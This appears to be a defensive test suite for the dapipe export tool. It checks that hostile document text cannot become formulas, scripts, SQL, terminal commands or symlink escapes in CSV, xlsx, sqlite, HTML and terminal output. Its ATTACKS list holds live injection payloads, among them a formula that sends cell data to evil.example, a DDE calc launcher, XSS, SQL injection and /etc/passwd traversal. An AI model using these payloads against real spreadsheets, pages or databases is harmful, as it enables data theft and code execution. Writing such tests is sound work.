"""Nothing in a document's words, title or path can attack whoever opens what dapipe writes."""

from __future__ import annotations

import csv
import json
import re
import sqlite3
import zipfile
from collections.abc import Iterator
from contextlib import closing, nullcontext
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from dapipe import schema
from dapipe.corrections import corrected
from dapipe.errors import WrongUse
from dapipe.export import EXPORTS, export
from dapipe.export.csv import plain
from dapipe.report import write
from dapipe.rows import table_of
from dapipe.search import find
from dapipe.store import open_store
from dapipe.terminal import as_line
from dapipe.work import Outcome
from tests.report.conftest import DAY
from tests.report.test_page import Elements, page_of

ATTACKS = (
    '=HYPERLINK("http://evil.example?"&A1,"34%")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
    "\n=1+1", "＝1+1", "＋1", "－1", "＠A1", "'=1+1", "''=1", "'", '"', '",=1+1,"', '"\r\n=1+1\r\n"', ";=1+1",
    "\ufeff=1+1",
    "</script><script>alert(1)</script>", "<!--<script>", "]]>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "&#0;",
    "javascript:alert(1)", "{{7*7}}{%raw%}", "${7*7}", "'; DROP TABLE figures; --", '" OR ""="', "') OR 1=1 --",
    "%s %n",
    "\x1b[2J\x1b]0;owned\x07", "\x9b31m", "\x08\x08\x08", "\u202egnp.exe", "\u2066x\u2069", "\u2028\u2029", "\x0b\x0c",
    "_x000D_", "\ufffe\uffff", "../../etc/passwd", "/etc/passwd", "C:\\CON", "a" * 40_000, "e\u0301\u200d\U0001f46e",
    "http://evil.example/", "file:///etc/passwd", "mailto:x@y.example", "1e400", "NaN", "0x41", "1,234", "2019-01-01",
)  # fmt: skip
SPREADSHEET_STARTS = tuple("=+-@\t\r\n＝＋－＠")
BOOK = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
hostile = st.one_of(
    st.sampled_from(ATTACKS),
    st.builds("{}{}".format, st.sampled_from(ATTACKS), st.text(st.characters(codec="utf-8", exclude_characters="\0"))),
    st.lists(st.sampled_from(ATTACKS[:-20]), min_size=2, max_size=4).map("".join),
)
one_folder_is_enough = settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


class Everywhere:
    """One row in every table, with the same words in every cell that holds text."""

    def __init__(self, words: str) -> None:
        self.words = words

    def rows(self, table: str) -> Iterator[tuple[schema.Value, ...]]:
        kinds: dict[str, schema.Value] = {"string": self.words, "integer": -1, "number": -2.5, "boolean": True}
        return iter([tuple(kinds[column.type] for column in schema.columns(table))])


@one_folder_is_enough
@given(hostile)
def test_no_cell_of_any_csv_file_is_a_formula_and_numbers_stay_numbers(tmp_path: Path, words: str) -> None:
    export(Everywhere(words), tmp_path, ["csv"])
    for table in schema.TABLES:
        with (tmp_path / f"{table}.csv").open(encoding="utf-8-sig", newline="") as file:
            (read,) = csv.DictReader(file)
        for column in schema.columns(table):
            value = read[column.name]
            expected = {"string": words, "integer": "-1", "number": "-2.5", "boolean": "true"}[column.type]
            assert plain(value) == expected
            assert column.type != "string" or not value.startswith(SPREADSHEET_STARTS)


@settings(one_folder_is_enough, max_examples=20)
@given(hostile)
def test_no_sheet_of_the_workbook_holds_a_formula_a_link_or_a_macro(tmp_path: Path, words: str) -> None:
    export(Everywhere(words), tmp_path, ["xlsx"])
    with zipfile.ZipFile(tmp_path / "dapipe.xlsx") as book:
        assert not [name for name in book.namelist() if re.search("vba|external|rels/sheet|activeX", name)]
        sheets = [etree.fromstring(book.read(name)) for name in book.namelist() if "worksheets/sheet" in name]
    kinds = {
        element.tag.removeprefix(BOOK) for sheet in sheets for element in sheet.iter() if isinstance(element.tag, str)
    }
    assert len(sheets) == len(schema.TABLES) + 2
    assert not kinds & {"f", "hyperlink", "hyperlinks", "oleObject", "drawing", "control"}


@settings(one_folder_is_enough, max_examples=30)
@given(hostile)
def test_sql_in_words_is_words(tmp_path: Path, words: str) -> None:
    export(Everywhere(words), tmp_path, ["sqlite"])
    with closing(sqlite3.connect(tmp_path / "facts.sqlite")) as base:
        tables = {name for (name,) in base.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert tables >= set(schema.TABLES)
        for table in schema.TABLES:
            texts = [f'"{column.name}"' for column in schema.columns(table) if column.type == "string"]
            (row,) = base.execute(f'SELECT {", ".join(texts)} FROM "{table}"')
            assert set(row) == {words}


@pytest.mark.parametrize("words", ATTACKS)
def test_what_describes_the_files_holds_no_word_of_a_document(tmp_path: Path, words: str) -> None:
    for name, said in (("plain", "x"), ("hostile", words)):
        export(Everywhere(said), tmp_path / name, ["csv", "sqlite"])
    for file in ("metadata.json", "datapackage.json", "DATA_DICTIONARY.md"):
        assert (tmp_path / "hostile" / file).read_bytes() == (tmp_path / "plain" / file).read_bytes()


@settings(one_folder_is_enough, max_examples=40)
@given(hostile)
def test_the_store_gives_back_every_word_and_its_search_is_no_language_of_commands(tmp_path: Path, words: str) -> None:
    rows = {table: list(Everywhere(words).rows(table)) for table in ("documents", "facts", "figures")}
    outcome = Outcome(path="a.txt", digest="0" * 64, recipe="r", status="complete", rows=rows)
    (tmp_path / "s.sqlite").unlink(missing_ok=True)
    with open_store(tmp_path / "s.sqlite") as store:
        store.save(outcome)
        (found,) = table_of(store, "figures")
        assert {value for value in found.values() if isinstance(value, str)} == {words}
        answered(store, words)
        assert len(list(table_of(store, "facts"))) == 1


def answered(store: Any, words: str) -> None:
    """Search for some words; if there are none, to be told so."""
    with nullcontext() if words.split() else pytest.raises(WrongUse, match="no word"):
        list(find(store, corrected(store, Path("nowhere")), words, 5))


@pytest.fixture(scope="module")
def calm(tmp_path_factory: pytest.TempPathFactory) -> Elements:
    return Elements(page_of(tmp_path_factory.mktemp("calm"), "x"))


@settings(one_folder_is_enough, max_examples=20)
@given(hostile)
def test_the_report_has_the_same_elements_whatever_a_document_says(
    tmp_path_factory: pytest.TempPathFactory, calm: Elements, words: str
) -> None:
    made = Elements(page_of(tmp_path_factory.mktemp("hostile"), words))
    assert [tag for tag, _ in made.tags] == [tag for tag, _ in calm.tags]
    assert [set(about) for _, about in made.tags] == [set(about) for _, about in calm.tags]
    assert made.inner["script"][1:] == calm.inner["script"][1:]
    json.loads(made.inner["script"][0])
    for tag, about in made.tags:
        for name in ("href", "src", "action"):
            assert not re.match(r"\s*(javascript|vbscript|file|https?):", about.get(name) or "", re.I), (tag, about)


@given(hostile)
def test_no_line_on_a_terminal_commands_it(words: str) -> None:
    shown = as_line(words)
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", shown)
    assert as_line("34 per cent – “quoted” é ½") == "34 per cent – “quoted” é ½"


@pytest.mark.parametrize("name", EXPORTS)
def test_a_link_in_the_folder_leads_no_export_out_of_it(tmp_path: Path, name: str) -> None:
    if name == "parquet":
        pytest.importorskip("pyarrow", reason="pyarrow (the extra 'parquet') is not installed")
    outside, folder = tmp_path / "outside", tmp_path / "facts"
    outside.write_text("mine")
    (written := tmp_path / "first").mkdir()
    names = [file.name for file in export(Everywhere("x"), written, [name])]
    folder.mkdir()
    for file in [*names, *(f".{file}.part" for file in names), ".dapipe-files.json", ".dapipe-files.json.part"]:
        (folder / file).symlink_to(outside)
    files = export(Everywhere("x"), folder, [name])
    assert outside.read_text() == "mine"
    assert all(file.parent == folder and not file.is_symlink() for file in files)


def test_a_link_in_the_folder_leads_no_report_out_of_it(tmp_path: Path) -> None:
    outside, folder = tmp_path / "outside", tmp_path / "facts"
    outside.write_text("mine")
    folder.mkdir()
    for file in ("report.html", ".report.html.part"):
        (folder / file).symlink_to(outside)
    with open_store(tmp_path / "s.sqlite") as store:
        made = write(corrected(store, folder), folder, day=DAY)
    assert (made.parent, made.name, outside.read_text()) == (folder, "report.new.html", "mine")
